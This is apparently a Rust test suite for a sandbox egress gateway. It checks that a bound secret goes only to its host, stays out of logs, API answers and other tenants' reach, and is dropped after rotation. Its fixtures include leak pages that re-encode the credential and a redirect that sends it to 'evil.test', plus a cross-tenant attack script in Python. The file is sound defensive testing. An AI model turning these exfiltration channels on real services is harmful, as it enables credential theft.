//! Credentials are outside: nobody inside finds one, and none goes where it does not belong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use crate::client::eventually;
use crate::inside::{Attack, Inside};
use crate::leaks;
use crate::origin::{Request, answer};
use crate::world::{ELSEWHERE, PUBLIC, World, in_a_world};

/// The attacks know it backwards, so that none of them finds itself.
const VALUE: &str = "sk-4f9a/held+by-the-gateway-alone=7c";

/// A world in which the secret goes to `api.test`, which programs inside may call `api.egress.internal`.
fn bind(world: &World) {
    assert_eq!(VALUE.chars().rev().collect::<String>(), "c7=enola-yawetag-eht-yb+dleh/a9f4-ks");
    world.secret("KEY", VALUE, &json!({ "host": "api.test", "form": "bearer", "base": "api" }));
    let shown = |request: &Request| request.header("authorization").trim_start_matches("Bearer ").to_owned();
    // Pages of a host that is allowed, and careless.
    world.outside.page("/base64", move |request| {
        let (bare, whole) = (STANDARD.encode(shown(request)), STANDARD.encode(&request.head));
        answer("200 OK", "", format!("{bare}\n{whole}\n"))
    });
    world.outside.page("/escaped", move |request| {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
        let escape =
            |byte: u8| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") };
        let escaped: String = shown(request).bytes().map(escape).collect();
        let in_json = shown(request).replace('/', "\\/");
        answer("200 OK", "", format!("{escaped}\n{}\n{in_json}\n", escaped.to_lowercase()))
    });
    world.outside.page("/drops", move |request| {
        let text = shown(request);
        let pieces = text
            .as_bytes()
            .chunks(3)
            .map(|piece| format!("{:x}\r\n{}\r\n", piece.len(), String::from_utf8_lossy(piece)));
        let chunks: String = pieces.collect();
        format!("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n{chunks}0\r\nx-echo: {text}\r\n\r\n")
            .into()
    });
    world.outside.page("/location", move |request| {
        let headers = format!(
            "location: http://evil.test/take?{}\r\nset-cookie: key={}\r\n",
            shown(request),
            shown(request)
        );
        answer("302 Found", &headers, "")
    });
    world.outside.page("/packed", move |request| {
        // A compressed page cannot be searched; this stands for one.
        let packed: Vec<u8> = shown(request).bytes().map(|byte| byte ^ 0x80).collect();
        match request.header("accept-encoding").contains("gzip") {
            true => answer("200 OK", "content-encoding: gzip\r\n", packed),
            false => answer("200 OK", "", shown(request)),
        }
    });
}

/// It has just been used, so that whatever could hold it does.
fn use_it(inside: &Inside<'_>) {
    let answer = inside.prints("get('http://api.egress.internal/used')");
    assert!(answer.contains("REACHED GET /used"), "{answer}");
}

#[test]
fn a_secret_is_not_found_inside_and_goes_to_its_host_alone() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test; allow tcp://*.test:8443");
        use_it(&inside);
        let seen = world.outside.said_at(&format!("{PUBLIC}:443"));
        assert!(seen.iter().any(|said| said.contains(VALUE)), "it does go out: {seen:?}");
        inside.withstands(&leaks::ATTACKS);
        for place in [ELSEWHERE.to_owned(), format!("{PUBLIC}:80"), format!("{PUBLIC}:8443")] {
            let said = world.outside.said_at(&place).concat();
            assert!(!said.contains(VALUE) && !said.contains(&STANDARD.encode(VALUE)), "{place}: {said}");
        }
    });
}

/// What is outside of the sandbox has it, and says it to nobody.
#[test]
fn a_secret_is_in_no_answer_log_or_bill() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test");
        use_it(&inside);
        let exec = inside.python("get('http://api.egress.internal/echo')");
        assert!(exec.to_string().contains("you sent"), "{exec}");
        let answers = [
            exec,
            inside.egress(),
            world.server.get("/api/v1/secrets").json(),
            world.server.get("/api/v1/secrets/KEY").json(),
            world.server.get("/api/v1/audit?limit=1000").json(),
            world.server.get(&format!("/api/v1/leases/{}", inside.lease)).json(),
        ];
        for answer in answers {
            assert!(!answer.to_string().contains(VALUE), "{answer}");
        }
        assert!(!world.server.said().contains(VALUE));
        // Nor in what anybody on the host can see of the gateway.
        let gateway = world.gateway().expect("it was used");
        for file in ["environ", "cmdline"] {
            let bytes = std::fs::read(format!("/proc/{gateway}/{file}")).expect("this is root");
            assert!(!String::from_utf8_lossy(&bytes).contains(VALUE), "{file}");
        }
    });
}

#[test]
fn another_tenant_and_another_template_have_nothing_of_it() {
    in_a_world(|world| {
        bind(world);
        let binding =
            json!({ "host": "other.test", "form": "header:x-key", "base": "other", "templates": ["python"] });
        world.secret("OTHER", "another-value-for-one-template", &binding);
        let own = world.sandbox("allow *.test");
        use_it(&own);
        let echo = own.prints("get('http://other.egress.internal/echo')");
        assert!(echo.contains("not configured"), "it is for another template: {echo}");
        let key = world.server.key_of("stranger", "mallory", &["run", "read", "manage"]);
        let stranger = world.leased_by(&key, &json!({ "egress": { "policy": "allow *.test" } }));
        stranger.withstands(&FROM_ANOTHER_TENANT);
        let listed = world.server.with_key("GET", "/api/v1/secrets", &json!(null), &key).ok();
        assert_eq!(listed["items"], json!([]));
        // The same name for the same host, and each has his own.
        let body = json!({ "value": "the-value-of-mallory", "bindings": [{ "host": "api.test", "form": "bearer", "base": "api" }] });
        world.server.with_key("PUT", "/api/v1/secrets/KEY", &body, &key).ok();
        eventually("the stranger's own secret", || {
            world.outside.forget();
            stranger.prints("get('http://api.egress.internal/used')");
            world.outside.heard_of("the-value-of-mallory").then_some(())
        });
        assert!(!world.outside.heard_of(VALUE));
        world.outside.forget();
        use_it(&own);
        assert!(world.outside.heard_of(VALUE) && !world.outside.heard_of("mallory"));
    });
}

#[test]
fn a_secret_that_is_rotated_or_removed_in_the_middle_is_not_used_any_more() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test");
        // One connection through all of it, as a client has that keeps one.
        let program = r#"
s = socket.create_connection(PROXY, timeout=20)
def once(number):
    s.sendall(f"GET /round-{number} HTTP/1.1\r\nHost: api.egress.internal\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got or b"REACHED" not in got and b"cubicle egress" not in got:
        piece = s.recv(4096)
        if not piece:
            break
        got += piece
    open(f"/workspace/answer-{number}", "wb").write(got)
number = 0
while not os.path.exists("/workspace/end"):
    if os.path.exists(f"/workspace/go-{number}"):
        once(number)
        number += 1
    time.sleep(0.01)
"#;
        inside.exec(&json!({ "command": inside.with_prelude(program), "background": true }));
        let round = |number: u32| {
            inside.sh(&format!("touch /workspace/go-{number}"));
            eventually("an answer", || {
                let answer = inside.sh(&format!("cat /workspace/answer-{number} 2>/dev/null || true"));
                (!answer.is_empty()).then_some(answer)
            })
        };
        assert!(round(0).contains("REACHED GET /round-0"));
        assert!(world.outside.heard_of(VALUE));
        world.server.put("/api/v1/secrets/KEY", &json!({ "value": "the-value-after-that" })).ok();
        world.outside.forget();
        let mut number = 1;
        eventually("the new value", || {
            let answer = round(number);
            assert!(answer.contains("REACHED"), "{answer}");
            number += 1;
            world.outside.heard_of("the-value-after-that").then_some(())
        });
        // A source that is gone is a refusal, and nothing goes out without it.
        let body = json!({ "from_file": "/nonexistent/key", "bindings": [{ "host": "api.test", "form": "bearer", "base": "api" }] });
        world.server.put("/api/v1/secrets/KEY", &body).ok();
        let answer = eventually("a refusal", || {
            let answer = round(number);
            number += 1;
            answer.contains("502 Bad Gateway").then_some(answer)
        });
        assert!(answer.contains("the secret 'KEY', which is bound to api.test, is not set"), "{answer}");
        assert!(answer.contains("cubicle secrets set KEY"), "{answer}");
        inside.sh("touch /workspace/end");
    });
}

const FROM_ANOTHER_TENANT: [Attack; 1] = [Attack {
    name: "the_secret_of_another_tenant_cannot_be_used",
    program: r#"
for host in ("api.egress.internal", "other.egress.internal"):
    get(f"http://{host}/ATTACK")
    print(ask(host))
get("http://api.test/echo")
answer = through(tunnel("api.test:80"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
print("REACHED" if "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1] in answer else "nothing")
"#,
    denied: "unknown virtual host",
}];
